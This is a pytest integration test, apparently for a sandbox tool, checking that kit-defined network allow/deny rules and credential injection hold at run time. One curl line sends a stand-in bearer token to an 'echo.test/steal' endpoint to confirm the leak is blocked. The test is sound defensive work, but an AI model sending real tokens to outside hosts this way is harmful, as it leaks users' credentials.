"""What kits bring of network and credentials, as it arrives at servers: a small Internet behind a real guest (tests/inet)."""
import json
import os

import pytest

import rig as rigs
from inet.world import NAMES

ACCESS, REFRESH = "kit-at-" + "a" * 30, "kit-rt-" + "b" * 30
AGENT = f"""schemaVersion: "2"
kind: sandbox
name: logged
extends: shell
sandbox: {{}}
permissions: {{network: {{allow: ["oauth.test:443", "api.test:443"], install: {{allow: ["llm.test:443"]}}}}}}
credentials:
  - service: loginsvc
    oauth:
      tokenEndpoint: {{host: oauth.test, path: /token}}
      resourceHosts: [api.test]
      sentinels: {{accessToken: {ACCESS}, refreshToken: {REFRESH}}}
"""
LINT = """schemaVersion: "2"
kind: mixin
name: lint
permissions: {network: {allow: ["echo.test:443"], deny: ["ws.test"]}}
credentials:
  - service: lintsvc
    required: true
    apiKey: {name: LINT_KEY, inject: [{domain: echo.test, header: x-lint, format: "key %s"}]}
  - {service: once, phase: install, apiKey: {name: ONCE_KEY, inject: [{domain: echo.test, header: x-once}]}}
"""


@pytest.fixture(scope="module")
def net(world, image):
    made = rigs.Rig(world.host)
    made.ok("settings", "set", "tls.extraCA", str(world.ca.cert))
    made.ok("policy", "init", "locked-down")
    yield made
    left = made.close()
    assert not left, "left behind: " + "\n".join(left)


def heads(world, mark, name):
    return [e["head"] for e in world.since(mark) if "head" in e and e["at"][0] == NAMES[name]]


def test_rules_and_credentials_of_kits_hold_at_run_time(world, net):
    agent, mixin = net.new_dir(), net.new_dir()
    (agent / "spec.yaml").write_text(AGENT)
    (mixin / "spec.yaml").write_text(LINT)
    net.ok("create", "--name", "kits", *rigs.SIZE, "--approve-kits", "--kit", mixin, agent, net.new_dir())
    net.look()
    value, once = "canary-" + os.urandom(12).hex(), "canary-" + os.urandom(12).hex()
    net.ok("secret", "set", "--sandbox", "kits", "lintsvc", input=value)
    net.ok("secret", "set", "--sandbox", "kits", "once", input=once)
    net.ok("start", "kits", timeout=300)
    net.look()
    box, mark = rigs.Box(net, "kits", None), world.mark()
    # the value goes where the kit says, and stands nowhere inside
    got = box.sh('env; curl -sS -m 60 https://echo.test/a; curl -sS -m 60 -H "x-lint: key $LINT_KEY" https://echo.test/b; '
                 'curl -sS -m 60 -o /dev/null -w " %{http_code}" https://llm.test/; '
                 'curl -sS -m 60 -o /dev/null -w " %{http_code}" https://ws.test/', timeout=300)
    assert value not in got.text and once not in got.text and "LINT_KEY=" in got.text, got
    assert got.text.split()[-2:] in (["403", "403"], ["000", "000"]), got  # closed with the installation; denied
    seen = heads(world, mark, "echo.test")
    assert len(seen) == 2 and all(f"x-lint: key {value}" in h for h in seen) and not any("x-once" in h for h in seen)
    assert heads(world, mark, "llm.test") == [] and heads(world, mark, "ws.test") == []
    # a login inside sees the kit's stand-ins, and the token goes to the kit's hosts
    got = box.sh("curl -sS -m 60 -d grant_type=authorization_code https://oauth.test/token; echo; "
                 f"curl -sS -m 60 -o /dev/null -w '%{{http_code}}' -H 'Authorization: Bearer {ACCESS}' https://api.test/u; "
                 f"curl -sS -m 60 -o /dev/null -w ' %{{http_code}}' -H 'Authorization: Bearer {ACCESS}' https://echo.test/steal",
                 timeout=300)
    answer, codes = got.text.rsplit("\n", 1)
    assert json.loads(answer)["access_token"] == ACCESS and json.loads(answer)["refresh_token"] == REFRESH
    assert codes.split() == ["200", "403"], got
    assert f"authorization: Bearer {world.oauth['access_token']}" in heads(world, mark, "api.test")[-1].replace("Authorization", "authorization")
    assert "Credentials:  loginsvc: set  (kit logged)" in net.ok("inspect", "kits").text
    # policy says whose rule it is
    told = net.api("GET", "/v1/policy?sandbox=kits")[1]["rules"]
    assert {"kit logged", "kit lint"} <= {r["origin"] for r in told if r["source"] == "kit"}
    net.ok("rm", "--force", "kits", timeout=120)
